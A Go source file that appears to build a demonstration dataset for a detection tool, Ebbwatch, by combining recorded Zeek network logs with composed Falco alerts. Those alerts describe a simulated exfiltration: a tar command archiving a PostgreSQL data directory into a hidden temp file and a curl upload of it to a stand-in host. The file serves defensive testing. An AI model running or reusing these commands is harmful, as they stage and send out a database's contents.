// Package demo holds the demonstration: an attack whose network half is a
// recording of real tools and whose host half is composed in Falco's real
// format, amid an hour of recorded benign traffic.
package demo

import (
	"bufio"
	"bytes"
	"cmp"
	"compress/gzip"
	"embed"
	"encoding/json"
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"
)

//go:embed data
var recordings embed.FS

// Scenario is an attack that can be varied: tests remove a half, move the
// host or draw the halves apart.
type Scenario struct {
	// Staging is the host half: tar over a database's folder.
	Staging bool
	// Transfer is the network half: a recorded 20 MB upload with curl.
	Transfer bool
	// Host is the name under which Falco reports the staging, TransferHost
	// the name under which it reports the connection. They are the same
	// machine in the attack.
	Host, TransferHost string
	// Gap is the time from the staging to the transfer.
	Gap time.Duration
	// Background adds the hour of benign traffic.
	Background bool
}

// Attack is the scenario of the demonstration.
func Attack() Scenario {
	return Scenario{Staging: true, Transfer: true, Host: "db-prod-3", TransferHost: "db-prod-3", Gap: 9 * time.Minute, Background: true}
}

// Facts of the recorded transfer, as the composed half must match them.
const (
	sourceAddress = "10.20.117.10"
	sourcePort    = 50188
	peerAddress   = "203.0.113.117"
	peerPort      = 443
)

// Write writes the recordings below dir: zeek/{conn,dns,ssl}.log in Zeek's
// order of writing and falco/events.json. All times are moved so that the
// transfer begins at the given time and the background ends a little later.
func (s Scenario) Write(dir string, transfer time.Time) error {
	logs := map[string][]record{}
	if s.Transfer {
		if err := load(logs, "upload", transfer, false); err != nil {
			return err
		}
	}
	if s.Background {
		if err := load(logs, "background", transfer.Add(30*time.Second), true); err != nil {
			return err
		}
	}
	for name, recs := range logs {
		slices.SortStableFunc(recs, func(a, b record) int { return cmp.Compare(a.written, b.written) })
		var out bytes.Buffer
		for _, r := range recs {
			out.Write(r.line)
			out.WriteByte('\n')
		}
		if err := write(filepath.Join(dir, "zeek", name+".log"), out.Bytes()); err != nil {
			return err
		}
	}
	falco, err := s.falco(transfer)
	if err != nil {
		return err
	}
	return write(filepath.Join(dir, "falco", "events.json"), falco)
}

func write(path string, data []byte) error {
	if err := os.MkdirAll(filepath.Dir(path), 0o750); err != nil {
		return fmt.Errorf("demonstration: %w", err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		return fmt.Errorf("demonstration: %w", err)
	}
	return nil
}

// record is one line of a Zeek log and when Zeek wrote it, in microseconds.
type record struct {
	written int64
	line    []byte
}

// load reads a recording's logs and moves them in time: their first record,
// or with last their last one, to the given time.
func load(into map[string][]record, name string, to time.Time, last bool) error {
	dir := "data/" + name
	files, err := recordings.ReadDir(dir)
	if err != nil {
		return err
	}
	read := map[string][]record{}
	var first, final int64 = 1<<63 - 1, 0
	for _, f := range files {
		recs, from, err := readLog(dir + "/" + f.Name())
		if err != nil {
			return fmt.Errorf("recording %s/%s: %w", name, f.Name(), err)
		}
		log, _, _ := strings.Cut(f.Name(), ".")
		read[log] = recs
		first = min(first, from)
		for _, r := range recs {
			final = max(final, r.written)
		}
	}
	shift := to.UnixMicro() - first
	if last {
		shift = to.UnixMicro() - final
	}
	for log, recs := range read {
		for _, r := range recs {
			line, err := retime(r.line, shift)
			if err != nil {
				return err
			}
			into[log] = append(into[log], record{r.written + shift, line})
		}
	}
	return nil
}

// readLog reads one log and returns its first ts, in microseconds.
func readLog(path string) (recs []record, first int64, err error) {
	data, err := fs.ReadFile(recordings, path)
	if err != nil {
		return nil, 0, err
	}
	z, err := gzip.NewReader(bytes.NewReader(data))
	if err != nil {
		return nil, 0, err
	}
	first = 1<<63 - 1
	sc := bufio.NewScanner(z)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var t struct {
			TS       json.Number `json:"ts"`
			Duration float64     `json:"duration"`
			RTT      float64     `json:"rtt"`
		}
		if err := json.Unmarshal(sc.Bytes(), &t); err != nil {
			return nil, 0, err
		}
		ts, err := micros(t.TS.String())
		if err != nil {
			return nil, 0, err
		}
		first = min(first, ts)
		recs = append(recs, record{ts + int64((t.Duration+t.RTT)*1e6), bytes.Clone(sc.Bytes())})
	}
	return recs, first, sc.Err()
}

// retime moves the ts with which a line begins; nothing else in it is
// changed.
func retime(line []byte, shift int64) ([]byte, error) {
	const head = `{"ts":`
	rest, ok := strings.CutPrefix(string(line), head)
	text, tail, found := strings.Cut(rest, ",")
	if !ok || !found {
		return nil, fmt.Errorf("line does not begin with ts: %.40q", line)
	}
	ts, err := micros(text)
	if err != nil {
		return nil, err
	}
	ts += shift
	return fmt.Appendf(nil, "%s%d.%06d,%s", head, ts/1e6, ts%1e6, tail), nil
}

// micros reads seconds with a fraction of at most six digits exactly.
func micros(text string) (int64, error) {
	whole, frac, _ := strings.Cut(text, ".")
	frac = (frac + "000000")[:6]
	return strconv.ParseInt(whole+frac, 10, 64)
}

// falco composes the host half: the archiver opening the database's files,
// and later curl's connection, which binds the host to its address.
func (s Scenario) falco(transfer time.Time) ([]byte, error) {
	var out bytes.Buffer
	enc := json.NewEncoder(&out)
	enc.SetEscapeHTML(false)
	add := func(at time.Time, host, rule, priority string, tags []string, fields map[string]any) error {
		fields["evt.time"] = at.UnixNano()
		keys := slices.Sorted(func(yield func(string) bool) {
			for k := range fields {
				if !yield(k) {
					return
				}
			}
		})
		var text []string
		for _, k := range keys {
			text = append(text, fmt.Sprintf("%s=%v", k, fields[k]))
		}
		return enc.Encode(struct {
			Hostname string         `json:"hostname"`
			Output   string         `json:"output"`
			Priority string         `json:"priority"`
			Rule     string         `json:"rule"`
			Source   string         `json:"source"`
			Tags     []string       `json:"tags"`
			Time     string         `json:"time"`
			Fields   map[string]any `json:"output_fields"`
		}{
			host, at.Format("15:04:05.000000000") + ": " + priority + " " + rule + " | " + strings.Join(text, " "), priority, rule, "syscall", tags,
			at.UTC().Format("2006-01-02T15:04:05.000000000Z"), fields,
		})
	}
	process := func(name, cmdline, parent string, pid int) map[string]any {
		return map[string]any{
			"proc.name": name, "proc.cmdline": cmdline, "proc.pname": parent, "proc.pid": pid, "proc.exepath": "/usr/bin/" + name,
			"proc.aname[2]": "sshd", "user.name": "postgres", "user.uid": 114, "user.loginuid": 1002, "container.id": "host", "container.name": "host",
		}
	}
	if s.Staging {
		at := transfer.Add(-s.Gap)
		const cmd = "tar czf /var/tmp/.cache/s.tgz /var/lib/postgresql/16/main/base"
		for i, file := range []string{"16384/2619", "16384/16402", "16384/16402.1", "16384/16411"} {
			f := process("tar", cmd, "bash", 40817)
			f["evt.type"], f["fd.name"], f["proc.cwd"] = "openat", "/var/lib/postgresql/16/main/base/"+file, "/var/lib/postgresql"
			if err := add(at.Add(time.Duration(i)*time.Second), s.Host, "Ebbwatch archive of sensitive data", "Warning", []string{"T1560", "ebbwatch", "mitre_collection"}, f); err != nil {
				return nil, err
			}
		}
	}
	if s.Transfer {
		f := process("curl", "curl -sS -T /var/tmp/.cache/s.tgz https://drop.exf117.test/u", "bash", 40902)
		f["evt.type"] = "connect"
		f["fd.name"] = fmt.Sprintf("%s:%d->%s:%d", sourceAddress, sourcePort, peerAddress, peerPort)
		f["fd.lip"], f["fd.lport"], f["fd.rip"], f["fd.rport"], f["fd.l4proto"] = sourceAddress, sourcePort, peerAddress, peerPort, "tcp"
		f["proc.cwd"] = "/var/lib/postgresql"
		if err := add(transfer, s.TransferHost, "Ebbwatch transfer tool connects outward", "Notice", []string{"T1048", "ebbwatch", "mitre_exfiltration"}, f); err != nil {
			return nil, err
		}
	}
	return out.Bytes(), nil
}
